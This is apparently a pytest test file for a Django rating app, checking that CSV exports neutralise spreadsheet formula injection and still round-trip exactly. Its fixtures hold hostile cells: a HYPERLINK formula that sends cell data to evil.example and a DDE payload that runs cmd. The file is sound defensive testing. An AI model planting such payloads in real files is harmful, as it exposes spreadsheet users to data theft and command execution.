"""CSV exports are safe to open in a spreadsheet (no cell runs as a formula) and still read back exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command

from comparisons import services
from comparisons.models import Campaign, Comparison
from comparisons.results import export_stream
from comparisons.stats import read_votes_csv
from comparisons.stats.io import FORMULA_STARTS, spreadsheet_safe
from generation.errors import InputError
from generation.models import ModelEntry
from generation.services import model_add
from tests.comparisons.factories import build_campaign, build_eval_set

pytestmark = pytest.mark.django_db

HOSTILE_INSTRUCTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_OUTPUT = "@SUM(1+1)*cmd|' /C calc'!A0"


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS and spreadsheet_safe(cell) != cell


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile_campaign():
    """Votes from raters named like formulas ('-' and '+' are allowed in usernames) on hostile texts."""
    campaign = build_campaign(slug="hostile", n_prompts=3, k=3)
    first = Comparison.objects.filter(campaign=campaign).order_by("pk").first()
    first.prompt.instruction = HOSTILE_INSTRUCTION
    first.prompt.save()
    first.response_a.text = HOSTILE_OUTPUT
    first.response_a.save()
    raters = [
        services.rater_create_named(username=name, password="pw-123456789", campaigns=[campaign])
        for name in ("-mallory", "+bob", "@eve")
    ]
    for rater, choice in zip(raters, ["A", "B", "tie"], strict=True):
        while (assignment := services.assignment_next(rater=rater, campaign=campaign)) is not None:
            services.vote_cast(rater=rater, token=assignment.token, choice=choice)
    return campaign


@pytest.mark.parametrize("kind", ["votes", "prompts", "summary"])
def test_no_cell_of_a_csv_export_starts_a_formula(hostile_campaign, kind):
    text = "".join(export_stream(campaign=hostile_campaign, kind=kind, n_boot=50))
    assert not [cell for cell in cells(text) if starts_a_formula(cell)]
    if kind == "votes":
        assert {"'-mallory", "'+bob", "'@eve"} <= set(cells(text))
    if kind == "prompts":
        assert "'" + HOSTILE_INSTRUCTION in cells(text) and "'" + HOSTILE_OUTPUT in cells(text)


def test_the_votes_export_reads_back_exactly_and_analyze_reads_it(hostile_campaign, tmp_path):
    path = tmp_path / "votes.csv"
    call_command("export_votes", hostile_campaign.slug, str(path), stdout=io.StringIO())
    assert not [cell for cell in cells(path.read_text()) if starts_a_formula(cell)]
    frame = read_votes_csv(path)
    assert set(frame["rater"]) == {"-mallory", "+bob", "@eve"}
    out = io.StringIO()
    call_command("analyze", str(path), "--json", "--bootstrap", "50", stdout=out)
    result = json.loads(out.getvalue())
    assert {r["rater"] for r in result["agreement"]["raters"]} == {"-mallory", "+bob", "@eve"}
    assert result["votes"]["used"] == len(frame) == 9


def test_values_round_trip_through_the_csv_writer_and_reader(tmp_path):
    from comparisons.stats import csv_lines

    distinct = ["-mallory", "=1+1", "'=already quoted", "''-two", "-1.5", "+3", "'", "", "\tx", "\rx", "@x", "plain"]
    # Each value several times over, in a different order each time: the reader looks at each distinct one once.
    values = [distinct[(i * 5 + i // len(distinct)) % len(distinct)] for i in range(4 * len(distinct))]
    path = tmp_path / "t.csv"
    path.write_text("".join(csv_lines(["value"], [[v] for v in values])))
    assert list(read_votes_csv(path)["value"]) == values


def test_model_and_campaign_names_may_not_start_like_a_formula(tmp_path):
    eval_set, models, _ = build_eval_set(n_prompts=2)
    with pytest.raises(CommandError, match="may not start with '-'"):
        call_command(
            "create_campaign", "--evalset", eval_set.name, "--models", *[m.name for m in models], "--", "-campaign",
            stdout=io.StringIO(),
        )  # fmt: skip
    with pytest.raises(ValidationError, match="may not start with '='"):
        services.campaign_create(slug="fine", title="=cmd()", eval_set=eval_set, models=models)
    assert not Campaign.objects.exists()
    outputs = tmp_path / "outputs.json"
    outputs.write_text(json.dumps([{"instruction": "Say hi.", "output": "hi"}]))
    with pytest.raises(CommandError, match="may not start with '@'"):
        call_command("import_outputs", str(outputs), "--model", "@model", "--evalset", eval_set.name)
    with pytest.raises(InputError, match=r"may not start with '\+'"):
        model_add(name="+model", source="")
    assert not ModelEntry.objects.filter(name__in=["@model", "+model"]).exists()
